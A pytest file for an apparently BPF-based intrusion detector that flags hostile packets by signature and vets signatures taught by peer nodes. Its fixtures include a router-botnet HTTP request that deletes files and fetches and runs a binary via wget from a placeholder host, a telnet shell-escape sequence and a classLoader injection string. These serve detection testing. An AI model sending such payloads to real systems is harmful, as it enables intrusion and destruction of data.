"""The macrophage over the real sample ring: which packets it has dropped from everybody, and what others taught."""

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from actors.core.errors import Refused
from actors.core.messages import Action, HostilePayload, Verdict
from actors.core.payloads import TCP, UDP
from actors.dermis import macrophage
from bpf.loader import KernelPlane
from bpf.replay import replay_plane
from tests.kernel.test_macrophage_cell import Wire, over_tcp, settings, verdicts
from tests.support.core import Dish
from tests.support.packets import PEER4, PEER6, ethernet, ip6, udp

pytestmark = pytest.mark.kernel

TELNET = b"enable\r\nsystem\r\nshell\r\nsh\r\n"
SHELL = b"GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws;sh HTTP/1.1\r\n\r\n"
DEEP = b"POST /form HTTP/1.1\r\nHost: node\r\n\r\nclass.module.classLoader.resources.context=x"
WORM = """
- name: {name}
  pattern: '{pattern}'
  severity: critical
  action: ban
  protocols: [tcp, udp]
  vaccinate: true
  hit: ['{hit}']
  miss: ['{miss}']
"""


@pytest.fixture
def plane() -> Iterator[KernelPlane]:
    made = replay_plane(flow_sets=1_024)
    yield made
    made.close()


@pytest.fixture
def dish(plane: KernelPlane, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Dish]:
    folder = tmp_path / "signatures"
    folder.mkdir()
    (folder / "own.yaml").write_text(text(name="own-worm"))
    monkeypatch.setattr(macrophage, "open_samples", lambda bpf_dir, patience_s: plane.samples)
    dish = Dish(macrophage.Macrophage, settings(tmp_path, signatures=folder), name="macrophage")
    dish.peer("permeability", Verdict, HostilePayload)
    assert dish.run_until(lambda: "signatures" in dish.cell.gauges, 15)
    yield dish
    dish.cell.unwatch(plane.samples.fd)
    dish.stop()


def text(
    name: str = "taught-worm",
    pattern: str = "WORM/[0-9] spread",
    hit: str = "WORM/3 spread now to everybody",
    miss: str = "a worm in the garden",
) -> str:
    return WORM.format(name=name, pattern=pattern, hit=hit, miss=miss)


def proposed(dish: Dish) -> list[HostilePayload]:
    return dish.sent(HostilePayload, "permeability")


def teach(dish: Dish, *texts: str, life_s: float = 600.0) -> dict[str, str]:
    rows = [
        {"subject": f"signature/{number}", "node": "north", "text": one, "until_unix_s": time.time() + life_s}
        for number, one in enumerate(texts)
    ]
    problems: dict[str, str] = dish.ask("rules.learned", {"signatures": rows}, limit_s=15)["problems"]
    return problems


def names(dish: Dish) -> dict[str, Any]:
    return {row["name"]: row for row in dish.ask("rules.list")["signatures"]}


def test_a_hostile_segment_of_a_shipped_signature_is_proposed_with_its_first_bytes(dish, plane):
    Wire(plane).send(*over_tcp(TELNET, size=1_400, dport=23), *over_tcp(SHELL, "203.0.113.8", size=1_400))

    verdicts(dish, lambda told: len(told) == 2)
    told = {one.dest_port: one for one in proposed(dish)}

    assert (told[23].head, told[23].proto, told[23].seen_from) == (TELNET, TCP, PEER4)
    assert (told[80].head, told[80].score) == (SHELL[:32], 1.0)
    assert told[80].reason == "signature router-botnet-exploit (critical)"


def test_what_is_hostile_only_further_in_or_only_together_is_proposed_as_a_source_alone(dish, plane):
    Wire(plane).send(*over_tcp(DEEP, size=1_400), *over_tcp(SHELL, "203.0.113.8", size=9))

    assert len(verdicts(dish, lambda told: len(told) == 2)) == 2
    assert proposed(dish) == []


def test_a_datagram_leads_to_a_vaccine_though_never_to_a_ban_of_either_family(dish, plane):
    payload = b"WORM/3 spread now to every host there is"

    Wire(plane).send(ethernet(ip6(udp(payload, dport=7777), UDP), 0x86DD))

    [verdict] = verdicts(dish)
    dish.run_until(lambda: bool(proposed(dish)), 2)
    [one] = proposed(dish)
    assert verdict.action is Action.THROTTLE
    assert (one.head, one.dest_port, one.proto, one.seen_from) == (payload[:32], 7777, UDP, PEER6)
    assert names(dish)["own-worm"]["vaccinate"]


def test_a_taught_signature_finds_is_named_after_its_node_and_only_suspects(dish, plane):
    before = len(names(dish))

    assert teach(dish, text(pattern="BUG/[0-9] eats", hit="BUG/3 eats everything here", miss="ladybug")) == {}
    Wire(plane).send(*over_tcp(b"BUG/7 eats everything that it finds", size=1_400))
    [verdict] = verdicts(dish)

    assert len(names(dish)) == before + 1
    row = names(dish)["taught-worm"]
    assert (row["learned_from"], row["vaccinate"]) == ("north", False)
    assert verdict.reason == "signature taught-worm (critical), learned from node north"
    assert verdict.score == 0.55
    assert proposed(dish) == []


def test_a_taught_signature_that_is_bad_broad_or_bears_a_taken_name_is_refused_and_the_others_stay(dish):
    good = text(name="good", pattern="BUG/[0-9] eats", hit="BUG/3 eats everything here", miss="ladybug")
    bad = {
        text(pattern="[a-z]", hit="abc", miss="0"): "too broad",
        # finds an innocent sample of the node's own
        text(name="greedy", pattern="worm in", hit="a worm in it", miss="0"): "too broad",
        text(name="own-worm"): "another signature has this name",
        text(name="untrue", hit="nothing of it"): "does not find its own sample",
        text(name="long", pattern="x" * 600, hit="x" * 600): "longer",
        text(name="first") + text(name="second"): "exactly one",
        "nonsense": "no list",
        "- name: half\n": "missing",
    }

    problems = teach(dish, good, *bad)

    assert {int(subject.rpartition("/")[2]) for subject in problems} == set(range(1, 1 + len(bad)))
    for number, word in enumerate(bad.values(), 1):
        assert word in problems[f"signature/{number}"]
    assert names(dish)["good"]["learned_from"] == "north"
    assert names(dish)["own-worm"]["learned_from"] == ""
    assert dish.ask("rules.list")["problems"] == []


def test_taught_signatures_are_replaced_whole_and_leave_when_their_time_is_over(dish):
    one = text(name="one", pattern="BUG/1", hit="BUG/1 here", miss="0")
    two = text(name="two", pattern="BUG/2", hit="BUG/2 here", miss="0")
    teach(dish, one)
    teach(dish, two, life_s=1.0)
    assert "one" not in names(dish)

    assert dish.run_until(lambda: "two" not in names(dish), 15)


def test_nonsense_is_refused_and_what_was_taught_stays(dish):
    teach(dish, text(name="one", pattern="BUG/1", hit="BUG/1 here", miss="0"))

    for rows in (None, "x", [5], [{}], [{"subject": "a", "node": "b", "text": "c"}]):
        with pytest.raises(Refused):
            dish.ask("rules.learned", {"signatures": rows})

    assert "one" in names(dish)


def test_a_signature_is_judged_for_others_as_strictly_as_they_will(dish):
    def judged(told: str) -> dict[str, Any]:
        found: dict[str, Any] = dish.ask("rules.check", {"text": told, "format": "yaml", "for_others": True})
        return found

    assert judged(text())["names"] == ["taught-worm"]
    assert "too broad" in judged(text(pattern="[a-z]", hit="abc", miss="0"))["problems"][0]["reason"]
    with pytest.raises(Refused):
        dish.ask("rules.check", {"text": 5, "for_others": True})
